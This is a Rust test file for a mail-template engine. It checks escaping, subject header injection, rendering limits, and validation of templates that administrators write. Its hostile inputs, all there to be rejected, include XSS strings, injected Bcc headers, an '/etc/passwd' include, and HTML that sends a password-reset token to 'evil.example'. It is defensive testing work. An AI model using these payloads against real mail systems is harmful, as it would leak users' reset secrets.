@@ -1,0 +1,1079 @@
+//! Tests of the mail templates: built-ins, rendering limits, and the rules for templates
+//! administrators write.
+use std::collections::HashSet;
+
+use super::*;
+
+const LANGS: [Language; 2] = [Language::En, Language::De];
+
+/// `sample_data(kind)` with some values replaced or added.
+fn ctx(kind: MailKind, overrides: &[(&str, &str)]) -> serde_json::Value {
+    let mut v = sample_data(kind);
+    let map = v.as_object_mut().expect("sample data is an object");
+    for (k, val) in overrides {
+        map.insert((*k).to_string(), serde_json::Value::from(*val));
+    }
+    v
+}
+
+fn sample(kind: MailKind, var: &str) -> String {
+    sample_data(kind)[var]
+        .as_str()
+        .unwrap_or_else(|| panic!("{} has no sample `{var}`", kind.as_str()))
+        .to_string()
+}
+
+/// How a value looks in the auto-escaped HTML part.
+fn esc(s: &str) -> String {
+    minijinja::HtmlEscape(s).to_string()
+}
+
+fn render_builtin(kind: MailKind, lang: Language, ctx: &serde_json::Value) -> Rendered {
+    render(builtin(kind, lang), ctx).unwrap_or_else(|e| panic!("{} {lang:?}: {e}", kind.as_str()))
+}
+
+fn all_parts(r: &Rendered) -> [(&'static str, &str); 3] {
+    [
+        ("subject", &r.subject),
+        ("text", &r.text),
+        ("html", &r.html),
+    ]
+}
+
+fn src(subject: &str, text: &str, html: &str) -> TemplateSource {
+    TemplateSource {
+        subject: subject.into(),
+        text: text.into(),
+        html: html.into(),
+    }
+}
+
+#[test]
+fn mail_kind_round_trips() {
+    let names: HashSet<&str> = MailKind::ALL.iter().map(|k| k.as_str()).collect();
+    assert_eq!(
+        names.len(),
+        MailKind::ALL.len(),
+        "as_str names are distinct"
+    );
+    for kind in MailKind::ALL {
+        assert_eq!(kind.as_str().parse::<MailKind>().unwrap(), kind);
+        // The serde name is the same string (stored in tasks and the mail log).
+        assert_eq!(
+            serde_json::to_value(kind).unwrap(),
+            serde_json::Value::from(kind.as_str())
+        );
+        assert_eq!(
+            serde_json::from_value::<MailKind>(serde_json::Value::from(kind.as_str())).unwrap(),
+            kind
+        );
+        assert!(!kind.label().is_empty());
+    }
+    assert!("nope".parse::<MailKind>().is_err());
+    assert!("Reset_Link".parse::<MailKind>().is_err());
+    assert!("".parse::<MailKind>().is_err());
+}
+
+#[test]
+fn every_kind_has_builtins_in_both_languages() {
+    // Checked on the table itself: `builtin()` would silently fall back to English.
+    let all = load_builtins();
+    assert_eq!(all.len(), MailKind::ALL.len() * LANGS.len());
+    for kind in MailKind::ALL {
+        for lang in LANGS {
+            let t = all
+                .get(&(kind, lang))
+                .unwrap_or_else(|| panic!("no built-in {} for {lang:?}", kind.as_str()));
+            assert!(
+                !t.subject.trim().is_empty(),
+                "{} {lang:?}: empty subject",
+                kind.as_str()
+            );
+            assert!(
+                !t.text.trim().is_empty(),
+                "{} {lang:?}: empty text",
+                kind.as_str()
+            );
+            assert!(
+                !t.html.trim().is_empty(),
+                "{} {lang:?}: empty html",
+                kind.as_str()
+            );
+            assert!(
+                !t.subject.contains(['\r', '\n']),
+                "{} {lang:?}: subject is not one line",
+                kind.as_str()
+            );
+            assert_eq!(builtin(kind, lang), t);
+        }
+    }
+}
+
+#[test]
+fn builtins_render_with_sample_data() {
+    for kind in MailKind::ALL {
+        for lang in LANGS {
+            let data = sample_data(kind);
+            let r = render_builtin(kind, lang, &data);
+            let what = format!("{} {lang:?}", kind.as_str());
+            assert!(!r.subject.is_empty(), "{what}: empty subject");
+            assert!(
+                !r.subject.contains(['\r', '\n']),
+                "{what}: subject is not one line"
+            );
+            for (part, out) in all_parts(&r) {
+                for marker in ["{{", "}}", "{%", "%}", "{#"] {
+                    assert!(
+                        !out.contains(marker),
+                        "{what} {part}: `{marker}` left in output:\n{out}"
+                    );
+                }
+            }
+            let tenant = sample(kind, "tenant_name");
+            assert!(
+                r.text.contains(&tenant) && r.html.contains(&esc(&tenant)),
+                "{what}: no tenant name"
+            );
+            if let Some(var) = kind.secret_variable() {
+                let secret = sample(kind, var);
+                assert!(r.text.contains(&secret), "{what}: text lacks {var}");
+                assert!(r.html.contains(&esc(&secret)), "{what}: html lacks {var}");
+            }
+        }
+    }
+}
+
+#[test]
+fn builtins_use_only_variables_the_kind_gets() {
+    // The engine is lenient, so a misspelt variable would render as nothing.
+    let env = engine();
+    for kind in MailKind::ALL {
+        let data = sample_data(kind);
+        let known: HashSet<&str> = data
+            .as_object()
+            .unwrap()
+            .keys()
+            .map(String::as_str)
+            .collect();
+        for lang in LANGS {
+            let t = builtin(kind, lang);
+            for (part, source) in [
+                ("subject", &t.subject),
+                ("text", &t.text),
+                ("html", &t.html),
+            ] {
+                let tmpl = env.template_from_str(source).unwrap();
+                for var in tmpl.undeclared_variables(false) {
+                    assert!(
+                        known.contains(var.as_str()),
+                        "{} {lang:?} {part}: unknown variable `{var}`",
+                        kind.as_str()
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn german_templates_are_german() {
+    let umlaut = |s: &str| s.contains(['ä', 'ö', 'ü', 'Ä', 'Ö', 'Ü', 'ß']);
+    for kind in MailKind::ALL {
+        let (en, de) = (builtin(kind, Language::En), builtin(kind, Language::De));
+        let what = kind.as_str();
+        assert_ne!(
+            de.subject, en.subject,
+            "{what}: German subject is the English one"
+        );
+        assert_ne!(de.text, en.text, "{what}: German text is the English one");
+        assert_ne!(de.html, en.html, "{what}: German html is the English one");
+        for (part, s) in [("text", &de.text), ("html", &de.html)] {
+            assert!(
+                umlaut(s) || s.contains("Passwort"),
+                "{what} {part}: does not look German"
+            );
+            // Formal address, real umlauts.
+            assert!(
+                s.contains("Sie") || s.contains("Ihr"),
+                "{what} {part}: not addressed with Sie"
+            );
+            let lower = s.to_lowercase();
+            for word in [" du ", " dich ", " dein"] {
+                assert!(!lower.contains(word), "{what} {part}: informal `{word}`");
+            }
+            for spelled_out in [
+                "fuer",
+                "zurueck",
+                "geaendert",
+                "gueltig",
+                "moeglich",
+                "oeffnen",
+                "koennen",
+                "muessen",
+            ] {
+                assert!(
+                    !lower.contains(spelled_out),
+                    "{what} {part}: `{spelled_out}` instead of an umlaut"
+                );
+            }
+        }
+    }
+    let en = builtin(MailKind::ResetLink, Language::En);
+    let de = builtin(MailKind::ResetLink, Language::De);
+    assert_ne!(de.subject, en.subject);
+    assert!(umlaut(&de.subject) || de.subject.contains("Passwort"));
+}
+
+#[test]
+fn validate_accepts_every_builtin() {
+    for kind in MailKind::ALL {
+        for lang in LANGS {
+            validate(kind, builtin(kind, lang))
+                .unwrap_or_else(|e| panic!("{} {lang:?}: {e}", kind.as_str()));
+        }
+    }
+}
+
+#[test]
+fn validate_requires_the_secret_placeholder_in_text_and_html() {
+    let ok = src(
+        "Reset",
+        "Open {{ reset_link }}",
+        "<a href=\"{{ reset_link }}\">reset</a>",
+    );
+    validate(MailKind::ResetLink, &ok).unwrap();
+    validate(MailKind::AdminResetLink, &ok).unwrap();
+
+    let no_text = src(
+        "Reset",
+        "Open the link",
+        "<a href=\"{{ reset_link }}\">reset</a>",
+    );
+    let e = validate(MailKind::AdminResetLink, &no_text).unwrap_err();
+    assert_eq!(e.part, "text");
+    assert!(e.message.contains("{{ reset_link }}"), "{}", e.message);
+    assert_eq!(
+        validate(MailKind::ResetLink, &no_text).unwrap_err().part,
+        "text"
+    );
+
+    let no_html = src("Reset", "Open {{ reset_link }}", "<p>Open the link</p>");
+    assert_eq!(
+        validate(MailKind::AdminResetLink, &no_html)
+            .unwrap_err()
+            .part,
+        "html"
+    );
+    assert_eq!(
+        validate(MailKind::ResetLink, &no_html).unwrap_err().part,
+        "html"
+    );
+
+    let no_password = src("Password", "Hello {{ name }}", "<p>Hello {{ name }}</p>");
+    assert!(validate(MailKind::TemporaryPassword, &no_password).is_err());
+    // Kinds without a secret don't need one.
+    validate(MailKind::PasswordChanged, &no_password).unwrap();
+    // A campaign needs a link: the recipient's own reset link or the request link.
+    assert!(validate(MailKind::Campaign, &no_password).is_err());
+}
+
+#[test]
+fn validate_rejects_syntax_errors() {
+    let good = "Open {{ reset_link }}";
+    let cases = [
+        (src("{% if %}", good, good), "subject"),
+        (
+            src("Reset", "{% if %}{{ reset_link }}{% endif %}", good),
+            "text",
+        ),
+        (src("Reset", "{{ reset_link", good), "text"),
+        (
+            src("Reset", good, "{% for x in y %}{{ reset_link }}"),
+            "html",
+        ),
+        (src("Reset", good, "{{ reset_link }}{% endif %}"), "html"),
+    ];
+    for (source, part) in cases {
+        let e =
+            validate(MailKind::ResetLink, &source).expect_err(&format!("{source:?} was accepted"));
+        assert_eq!(e.part, part, "{source:?}: {e}");
+    }
+    assert!(validate(MailKind::Campaign, &src("{% if %}", "x", "x")).is_err());
+}
+
+#[test]
+fn html_part_is_escaped_and_text_part_is_not() {
+    let evil = "<script>alert(1)</script>";
+    for lang in LANGS {
+        let r = render_builtin(
+            MailKind::ResetLink,
+            lang,
+            &ctx(MailKind::ResetLink, &[("name", evil)]),
+        );
+        assert!(r.html.contains("&lt;script&gt;"), "{lang:?}: {}", r.html);
+        assert!(!r.html.contains("<script"), "{lang:?}: raw script in html");
+        assert!(r.text.contains(evil), "{lang:?}: text part was altered");
+    }
+    // A value can't leave the href attribute either.
+    let link = "https://id.example.org/r?token=x\" onmouseover=\"alert(1)";
+    for lang in LANGS {
+        let r = render_builtin(
+            MailKind::ResetLink,
+            lang,
+            &ctx(MailKind::ResetLink, &[("reset_link", link)]),
+        );
+        assert!(!r.html.contains("\" onmouseover"), "{lang:?}: {}", r.html);
+        assert!(r.text.contains(link));
+    }
+}
+
+#[test]
+fn subject_stays_on_one_line() {
+    let r = render(
+        &src("Hi {{ name }}", "x", "x"),
+        &serde_json::json!({ "name": "Eve\r\nBcc: x@y.org" }),
+    )
+    .unwrap();
+    assert!(!r.subject.contains(['\r', '\n']), "{:?}", r.subject);
+    assert_eq!(r.subject, "Hi Eve Bcc: x@y.org");
+
+    let r = render(
+        &src("Hi {{ name }}", "x", "x"),
+        &serde_json::json!({ "name": "a\nb\u{85}c\u{2028}d\u{2029}e\u{b}f\u{c}g\rh" }),
+    )
+    .unwrap();
+    assert_eq!(r.subject, "Hi a b c d e f g h");
+
+    // The built-in subjects too, with a hostile tenant name.
+    for kind in MailKind::ALL {
+        for lang in LANGS {
+            let r = render_builtin(
+                kind,
+                lang,
+                &ctx(
+                    kind,
+                    &[
+                        ("tenant_name", "Acme\r\nBcc: x@y.org\r\n"),
+                        ("name", "Eve\nX-Header: 1"),
+                    ],
+                ),
+            );
+            assert!(
+                !r.subject
+                    .chars()
+                    .any(|c| c.is_control() || c == '\u{2028}' || c == '\u{2029}'),
+                "{} {lang:?}: {:?}",
+                kind.as_str(),
+                r.subject
+            );
+        }
+    }
+}
+
+/// Renders on another thread and gives up after a while, so that a missing fuel limit
+/// fails the test instead of hanging it (the runaway thread dies with the test process).
+fn render_within(source: TemplateSource, secs: u64) -> Result<Rendered, TemplateError> {
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let _ = tx.send(render(&source, &serde_json::json!({})));
+    });
+    rx.recv_timeout(std::time::Duration::from_secs(secs))
+        .unwrap_or_else(|_| panic!("rendering ran for more than {secs} s"))
+}
+
+#[test]
+fn rendering_is_bounded_by_fuel() {
+    // Too big a range is refused outright…
+    let huge = "{% for i in range(100000000) %}x{% endfor %}";
+    assert!(render_within(src("x", huge, "x"), 10).is_err());
+    // …and loops the range limit allows still run out of fuel instead of running for hours.
+    let nested =
+        "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}";
+    for (source, part) in [
+        (src(nested, "x", "x"), "subject"),
+        (src("x", nested, "x"), "text"),
+        (src("x", "x", nested), "html"),
+    ] {
+        let e = render_within(source, 10).unwrap_err();
+        assert_eq!(e.part, part);
+        assert!(e.message.contains("fuel"), "{e}");
+    }
+    let recursive = "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}";
+    assert!(render_within(src("x", recursive, "x"), 10).is_err());
+}
+
+#[test]
+fn templates_cannot_load_other_templates() {
+    for source in [
+        "{% include 'x' %}",
+        "{% include '/etc/passwd' %}",
+        "{% extends 'base.html' %}",
+        "{% import 'x' as m %}",
+        "{% from 'x' import y %}",
+    ] {
+        assert!(
+            render(&src("x", source, "x"), &serde_json::json!({})).is_err(),
+            "{source} rendered"
+        );
+        assert!(
+            render(&src("x", "x", source), &serde_json::json!({})).is_err(),
+            "{source} rendered"
+        );
+    }
+}
+
+#[test]
+fn notices_say_what_to_do_and_carry_no_secrets() {
+    for kind in [MailKind::PasswordChanged, MailKind::ResetEmailChanged] {
+        for lang in LANGS {
+            let what = format!("{} {lang:?}", kind.as_str());
+            // Even if the caller passed a secret along by mistake, a notice doesn't show it.
+            let data = ctx(
+                kind,
+                &[
+                    ("temporary_password", "EXAMPLE-PASSWORD"),
+                    (
+                        "reset_link",
+                        "https://id.example.org/t/example/reset?token=EXAMPLE",
+                    ),
+                ],
+            );
+            let r = render_builtin(kind, lang, &data);
+            for (part, out) in all_parts(&r) {
+                assert!(
+                    !out.contains("EXAMPLE-PASSWORD"),
+                    "{what} {part}: contains a password"
+                );
+                assert!(!out.contains("token="), "{what} {part}: contains a token");
+            }
+            let text = &r.text;
+            match kind {
+                // What to do if it wasn't you: reset the password.
+                MailKind::PasswordChanged => {
+                    let forgot = sample(kind, "forgot_link");
+                    assert!(
+                        text.contains(&forgot),
+                        "{what}: text lacks the forgot-password link"
+                    );
+                    assert!(
+                        r.html.contains(&esc(&forgot)),
+                        "{what}: html lacks the forgot-password link"
+                    );
+                    assert!(text.contains(&sample(kind, "changed_at")));
+                    assert!(text.contains(&sample(kind, "ip")));
+                }
+                // What to do if it wasn't you: tell the administrator, and sign in if still
+                // possible. Not "reset your password": reset links now go to the new address.
+                MailKind::ResetEmailChanged => {
+                    let login = sample(kind, "login_link");
+                    assert!(text.contains(&login), "{what}: text lacks the login link");
+                    assert!(
+                        r.html.contains(&esc(&login)),
+                        "{what}: html lacks the login link"
+                    );
+                    assert!(
+                        !text.contains(&sample(kind, "forgot_link")),
+                        "{what}: sends the user to a reset that mails the new address"
+                    );
+                    assert!(text.contains(&sample(kind, "new_address")));
+                    assert!(text.contains(&sample(kind, "changed_at")));
+                }
+                _ => unreachable!(),
+            }
+            assert!(
+                text.to_lowercase().contains("administra"),
+                "{what}: doesn't say to tell the administrator"
+            );
+        }
+    }
+}
+
+#[test]
+fn only_the_temporary_password_mail_contains_a_password() {
+    for kind in MailKind::ALL {
+        for lang in LANGS {
+            let what = format!("{} {lang:?}", kind.as_str());
+            let data = ctx(
+                kind,
+                &[
+                    ("temporary_password", "EXAMPLE-PASSWORD"),
+                    (
+                        "reset_link",
+                        "https://id.example.org/t/example/reset?token=EXAMPLE",
+                    ),
+                    ("identifier", "TYPED-IDENTIFIER"),
+                    ("typed_identifier", "TYPED-IDENTIFIER"),
+                ],
+            );
+            let r = render_builtin(kind, lang, &data);
+            for (part, out) in all_parts(&r) {
+                assert_eq!(
+                    out.contains("EXAMPLE-PASSWORD"),
+                    kind == MailKind::TemporaryPassword && part != "subject",
+                    "{what} {part}: password shown or missing"
+                );
+                if !matches!(kind, MailKind::ResetLink | MailKind::AdminResetLink)
+                    || part == "subject"
+                {
+                    assert!(
+                        !out.contains("token="),
+                        "{what} {part}: contains a reset token"
+                    );
+                }
+                assert!(
+                    !out.contains("TYPED-IDENTIFIER"),
+                    "{what} {part}: contains the typed identifier"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn support_line_appears_only_when_set() {
+    for kind in MailKind::ALL {
+        for lang in LANGS {
+            let what = format!("{} {lang:?}", kind.as_str());
+            let without = render_builtin(kind, lang, &ctx(kind, &[("support", ""), ("ip", "")]));
+            for (part, out) in all_parts(&without) {
+                assert!(
+                    !out.contains("()") && !out.contains(" .") && !out.contains(" ,"),
+                    "{what} {part}: empty value left a gap:\n{out}"
+                );
+                assert!(!out.contains("\n\n\n"), "{what} {part}: stray blank lines");
+            }
+            assert!(!without.text.contains("IP"), "{what}: empty IP line");
+            if kind != MailKind::SmtpTest {
+                let with = render_builtin(
+                    kind,
+                    lang,
+                    &ctx(kind, &[("support", "helpdesk@example.org")]),
+                );
+                assert!(
+                    with.text.contains("helpdesk@example.org"),
+                    "{what}: text lacks the support contact"
+                );
+                assert!(
+                    with.html.contains(&esc("helpdesk@example.org")),
+                    "{what}: html lacks the support contact"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn builtin_html_is_plain_markup() {
+    const ALLOWED: [&str; 5] = ["p", "a", "strong", "br", "small"];
+    for kind in MailKind::ALL {
+        for lang in LANGS {
+            let what = format!("{} {lang:?}", kind.as_str());
+            let t = builtin(kind, lang);
+            for (part, s) in [
+                ("subject", &t.subject),
+                ("text", &t.text),
+                ("html", &t.html),
+            ] {
+                assert!(
+                    !s.contains("|safe") && !s.contains("| safe"),
+                    "{what} {part}: bypasses escaping"
+                );
+                assert!(
+                    !s.contains("autoescape"),
+                    "{what} {part}: switches escaping"
+                );
+                assert!(
+                    !s.contains("http://") && !s.contains("https://"),
+                    "{what} {part}: hard-coded URL"
+                );
+            }
+            // Every tag is a bare allowed element; the only attribute is an `href` that
+            // points at a link variable (no style, class, src or event handlers).
+            let html = &t.html;
+            for tag in html.split('<').skip(1) {
+                let tag = tag.split('>').next().unwrap();
+                let (name, attrs) = tag
+                    .trim_start_matches('/')
+                    .split_once(' ')
+                    .unwrap_or((tag.trim_start_matches('/'), ""));
+                assert!(ALLOWED.contains(&name), "{what}: tag <{tag}> not allowed");
+                let links = [
+                    "{{ reset_link }}",
+                    "{{ login_link }}",
+                    "{{ forgot_link }}",
+                    "{{ request_link }}",
+                ];
+                let href_ok = name == "a" && links.iter().any(|l| attrs == format!("href=\"{l}\""));
+                assert!(attrs.is_empty() || href_ok, "{what}: attributes in <{tag}>");
+            }
+            if let Some(var) = kind.secret_variable().filter(|v| *v == "reset_link") {
+                // One link, plus the URL printed for clients that strip links.
+                assert_eq!(html.matches("<a ").count(), 1, "{what}: more than one link");
+                assert!(html.contains("<a href=\"{{ reset_link }}\">"), "{what}");
+                let r = render_builtin(kind, lang, &sample_data(kind));
+                assert!(
+                    r.html.matches(&esc(&sample(kind, var))).count() >= 2,
+                    "{what}: URL not printed as text"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn secret_and_required_variables_are_consistent() {
+    for kind in MailKind::ALL {
+        let known = known_variables(kind);
+        for var in kind
+            .secret_variables()
+            .iter()
+            .chain(kind.required_variables())
+        {
+            assert!(
+                known.iter().any(|k| k == var),
+                "{}: `{var}` has no sample value",
+                kind.as_str()
+            );
+            assert!(!describe_variable(var).is_empty(), "{var}: no description");
+        }
+        if let Some(var) = kind.secret_variable() {
+            assert!(kind.secret_variables().contains(&var), "{}", kind.as_str());
+            assert_eq!(kind.required_variables(), &[var], "{}", kind.as_str());
+        }
+        for var in &known {
+            assert!(!describe_variable(var).is_empty(), "{var}: no description");
+        }
+    }
+    assert_eq!(MailKind::Campaign.secret_variables(), &["reset_link"]);
+    assert!(!MailKind::SmtpTest.editable());
+    assert!(MailKind::ALL
+        .iter()
+        .filter(|k| **k != MailKind::SmtpTest)
+        .all(|k| k.editable()));
+}
+
+#[test]
+fn campaigns_need_a_reset_link_or_a_request_link() {
+    for (text, html) in [
+        ("{{ reset_link }}", "<a href=\"{{ reset_link }}\">x</a>"),
+        ("{{ request_link }}", "<p>{{ request_link }}</p>"),
+        ("{{ reset_link }}", "<p>{{ request_link }}</p>"),
+    ] {
+        validate(MailKind::Campaign, &src("Hi {{ name }}", text, html))
+            .unwrap_or_else(|e| panic!("{text} / {html}: {e}"));
+    }
+    let e = validate(
+        MailKind::Campaign,
+        &src("Hi", "{{ login_link }}", "<p>{{ request_link }}</p>"),
+    )
+    .unwrap_err();
+    assert_eq!(e.part, "text");
+    assert!(
+        e.message.contains("{{ reset_link }}") && e.message.contains("{{ request_link }}"),
+        "{e}"
+    );
+    // A campaign's reset link is a secret: masked like the other kinds' secrets.
+    assert!(uses_secret(
+        MailKind::Campaign,
+        &src("x", "{{ reset_link }}", "{{ reset_link }}")
+    ));
+    assert!(!uses_secret(
+        MailKind::Campaign,
+        builtin(MailKind::Campaign, Language::En)
+    ));
+    assert!(uses_secret(
+        MailKind::ResetLink,
+        builtin(MailKind::ResetLink, Language::De)
+    ));
+    assert!(!uses_secret(
+        MailKind::PasswordChanged,
+        &src("x", "{{ reset_link }}", "x")
+    ));
+}
+
+#[test]
+fn the_placeholder_must_really_be_printed() {
+    let html = "<a href=\"{{ reset_link }}\">reset</a>";
+    for text in [
+        "Open {# {{ reset_link }} #} the link",
+        "Open reset_link",
+        "Open {{ '{{ reset_link }}' }}",
+        "{% if reset_link %}Open the link{% endif %}",
+    ] {
+        let e = validate(MailKind::ResetLink, &src("Reset", text, html))
+            .expect_err(&format!("{text:?} was accepted"));
+        assert_eq!(e.part, "text", "{text:?}: {e}");
+    }
+    // A misspelt variable is unknown, not a placeholder.
+    let e = validate(
+        MailKind::ResetLink,
+        &src("Reset", "Open {{ reset_links }}", html),
+    )
+    .unwrap_err();
+    assert_eq!(e.part, "text");
+    assert!(e.message.contains("unknown variable `reset_links`"), "{e}");
+    // Whitespace control is fine; filters on the secret are not (the server places it).
+    validate(
+        MailKind::ResetLink,
+        &src("Reset", "{{- reset_link -}}", html),
+    )
+    .unwrap();
+    validate(
+        MailKind::ResetLink,
+        &src("Reset", "Open {{- reset_link|trim -}}", html),
+    )
+    .unwrap_err();
+}
+
+#[test]
+fn only_the_kinds_variables_may_be_used() {
+    let ok_html = "<p>{{ temporary_password }}</p>";
+    for (subject, text) in [
+        ("Hi {{ nmae }}", "{{ temporary_password }}"),
+        ("Hi", "{{ temporary_password }} {{ reset_link }}"),
+        (
+            "Hi",
+            "{{ temporary_password }} {% if request_link %}x{% endif %}",
+        ),
+        (
+            "Hi",
+            "{{ temporary_password }} {{ name|default(secret_value) }}",
+        ),
+    ] {
+        let e = validate(MailKind::TemporaryPassword, &src(subject, text, ok_html))
+            .expect_err(&format!("{subject:?} / {text:?} was accepted"));
+        assert!(e.message.contains("unknown variable"), "{e}");
+    }
+    validate(
+        MailKind::TemporaryPassword,
+        &src(
+            "Hi {{ name|default('there') }} ({{ tenant_name|upper }})",
+            "{{ temporary_password }} valid for {{ valid_for }}",
+            ok_html,
+        ),
+    )
+    .unwrap();
+}
+
+#[test]
+fn secrets_stay_out_of_the_subject() {
+    for (kind, var) in [
+        (MailKind::ResetLink, "reset_link"),
+        (MailKind::TemporaryPassword, "temporary_password"),
+        (MailKind::Campaign, "reset_link"),
+    ] {
+        let body = format!("{{{{ {var} }}}}");
+        let e = validate(kind, &src(&format!("Your {body}"), &body, &body)).unwrap_err();
+        assert_eq!(e.part, "subject", "{}: {e}", kind.as_str());
+    }
+}
+
+#[test]
+fn parts_have_length_limits() {
+    let body = "{{ reset_link }}";
+    let long_subject = "x".repeat(MAX_SUBJECT_CHARS + 1);
+    let e = validate(MailKind::ResetLink, &src(&long_subject, body, body)).unwrap_err();
+    assert_eq!(e.part, "subject");
+    // Characters, not bytes.
+    validate(
+        MailKind::ResetLink,
+        &src(&"ü".repeat(MAX_SUBJECT_CHARS), body, body),
+    )
+    .unwrap();
+    let long_body = format!("{body}{}", "x".repeat(MAX_BODY_CHARS));
+    let e = validate(MailKind::ResetLink, &src("x", &long_body, body)).unwrap_err();
+    assert_eq!(e.part, "text");
+    let e = validate(MailKind::ResetLink, &src("x", body, &long_body)).unwrap_err();
+    assert_eq!(e.part, "html");
+    assert!(e.message.contains("20000"), "{e}");
+    let max_body = format!("{body}{}", "x".repeat(MAX_BODY_CHARS - body.len()));
+    validate(MailKind::ResetLink, &src("x", &max_body, &max_body)).unwrap();
+}
+
+#[test]
+fn only_printing_and_if_are_allowed() {
+    let good = "{{ reset_link }}";
+    let refused = [
+        "{{ reset_link }}{{ 'x' * 100000000 }}",
+        "{{ reset_link }}{{ name * 3 }}",
+        "{{ reset_link ~ reset_link }}",
+        "{{ reset_link + name }}",
+        "{{ reset_link }}{{ 1 - 2 }}",
+        "{{ reset_link }}{{ 4 / 2 }}",
+        "{{ reset_link }}{{ '%s' % name }}",
+        "{{ reset_link }}{% for i in range(3) %}x{% endfor %}",
+        "{{ reset_link }}{% set x = name %}",
+        "{% set x %}{{ reset_link }}{% endset %}{{ reset_link }}",
+        "{{ reset_link }}{% macro m() %}x{% endmacro %}",
+        "{{ reset_link }}{% filter upper %}x{% endfilter %}",
+        "{{ reset_link }}{% with x = name %}{{ x }}{% endwith %}",
+        "{{ reset_link }}{% raw %}x{% endraw %}",
+        "{{ reset_link }}{% autoescape false %}{{ name }}{% endautoescape %}",
+        "{{ reset_link }}{% include 'x' %}",
+        "{{ reset_link }}{{ name|safe }}",
+        "{{ reset_link }}{{ name|replace('a', 'bbbbbbbb') }}",
+        "{{ reset_link }}{{ name|center(1000000) }}",
+        "{{ reset_link }}{{ range(10) }}",
+        "{{ reset_link }}{{ debug() }}",
+        "{{ reset_link }}{{ name() }}",
+        "{{ reset_link }}{{ name.upper() }}",
+        "{{ reset_link }}{{ name[0] }}",
+        "{{ reset_link }}{{ [name, name] }}",
+        "{{ reset_link }}{{ {'a': name} }}",
+        "{{ reset_link }}{% if name is divisibleby(3) %}x{% endif %}",
+        "{{ reset_link }}{% if name is startingwith('a') %}x{% endif %}",
+        "{{ reset_link }}{{ name|default(x=1) }}",
+        "{{ reset_link }}{% if name|length > 3 %}x{% endif %}",
+    ];
+    for source in refused {
+        for (template, part) in [
+            (src("x", source, good), "text"),
+            (src("x", good, source), "html"),
+        ] {
+            let e = validate(MailKind::ResetLink, &template)
+                .expect_err(&format!("{source:?} was accepted"));
+            assert_eq!(e.part, part, "{source:?}: {e}");
+        }
+    }
+    let e = validate(MailKind::ResetLink, &src("{{ name * 2 }}", good, good)).unwrap_err();
+    assert_eq!(e.part, "subject");
+    assert!(e.message.contains("`*`"), "{e}");
+    let e = validate(
+        MailKind::ResetLink,
+        &src("x", "{{ name|safe }}{{ reset_link }}", good),
+    )
+    .unwrap_err();
+    assert!(e.message.contains("safe"), "{e}");
+    let e = validate(
+        MailKind::ResetLink,
+        &src("x", "{% for x in name %}{% endfor %}{{ reset_link }}", good),
+    )
+    .unwrap_err();
+    assert!(e.message.contains("{% for %}"), "{e}");
+
+    let allowed = [
+        "{{ reset_link }}",
+        "{# anything goes in a comment: {{ 'x' * 100000000 }} {% for %} #} {{ reset_link }}",
+        "{{ \"a }} b * c ~ d\" }} {{ reset_link }}",
+        "{{ 'it\\'s' }} {{ reset_link }}",
+        "{%- if support -%} {{ support }} {%- elif username %}{{ username }}{% else %}none{% endif %} {{ reset_link }}",
+        "{% if name == 'Alex' and not (valid_for != '1 hour') or username in name %}x{% endif %} {{ reset_link }}",
+        "{% if support is defined and support is not none %}x{% endif %} {{ reset_link }}",
+        "{{ name|default('friend', true)|title }} {{ reset_link }}",
+        "{{ name if support else username }} {{ reset_link }}",
+        "Braces { alone } and 100% are text. {{ reset_link }}",
+    ];
+    for source in allowed {
+        validate(MailKind::ResetLink, &src("x", source, source))
+            .unwrap_or_else(|e| panic!("{source:?} refused: {e}"));
+    }
+}
+
+#[test]
+fn validate_renders_with_sample_data() {
+    // Parses and uses only allowed syntax, but fails when rendered: caught at save time.
+    let e = validate(
+        MailKind::ResetLink,
+        &src(
+            "x",
+            "{{ reset_link }}{{ name|title(1, 2) }}",
+            "{{ reset_link }}",
+        ),
+    )
+    .unwrap_err();
+    assert_eq!(e.part, "text");
+}
+
+#[test]
+fn rendered_output_is_capped() {
+    // Built-in and campaign templates aren't restricted like saved ones, but their output is.
+    let big = format!("{{{{ 'x' * {} }}}}", MAX_OUTPUT_BYTES + 1);
+    for (source, part) in [
+        (src(&big, "x", "x"), "subject"),
+        (src("x", &big, "x"), "text"),
+        (src("x", "x", &big), "html"),
+    ] {
+        let e = render(&source, &serde_json::json!({})).unwrap_err();
+        assert_eq!(e.part, part);
+        assert!(e.message.contains("larger than 100 KB"), "{e}");
+    }
+    let just = format!("{{{{ 'x' * {} }}}}", MAX_OUTPUT_BYTES);
+    let r = render(&src("x", &just, "x"), &serde_json::json!({})).unwrap();
+    assert_eq!(r.text.len(), MAX_OUTPUT_BYTES);
+    // Doubling a value in a loop stops at the cap (or the fuel), not at the memory limit.
+    let doubling = "{% set s = namespace(v='xxxxxxxxxxxxxxxx') %}{% for i in range(64) %}\
+                    {% set s.v = s.v ~ s.v %}{{ s.v }}{% endfor %}";
+    assert!(render_within(src("x", doubling, "x"), 10).is_err());
+}
+
+#[test]
+fn secrets_can_not_be_sent_elsewhere_from_the_html_part() {
+    let ok = TemplateSource {
+        subject: "Reset".into(),
+        text: "{{ reset_link }}".into(),
+        html: "<p><a href=\"{{ reset_link }}\">Choose a new password</a><br>{{ reset_link }}</p>"
+            .into(),
+    };
+    assert!(validate(MailKind::ResetLink, &ok).is_ok());
+    for html in [
+        "<p><a href=\"https://evil.example/?x={{ reset_link }}\">x</a></p>",
+        "<p><img src=\"https://evil.example/{{ reset_link }}\"></p>",
+        "<p title=\"{{ reset_link }}\">{{ reset_link }}</p>",
+        "<script>new Image().src='https://evil.example/'+'{{ reset_link }}'</script>",
+        "<p style=\"background:url(https://evil.example)\">{{ reset_link }}</p><style>p{}</style>",
+    ] {
+        let bad = TemplateSource {
+            html: html.into(),
+            ..ok.clone()
+        };
+        assert!(validate(MailKind::ResetLink, &bad).is_err(), "{html}");
+    }
+    let temp_ok = TemplateSource {
+        subject: "x".into(),
+        text: "{{ temporary_password }}".into(),
+        html: "<p><strong>{{ temporary_password }}</strong></p>".into(),
+    };
+    assert!(validate(MailKind::TemporaryPassword, &temp_ok).is_ok());
+    let temp_bad = TemplateSource {
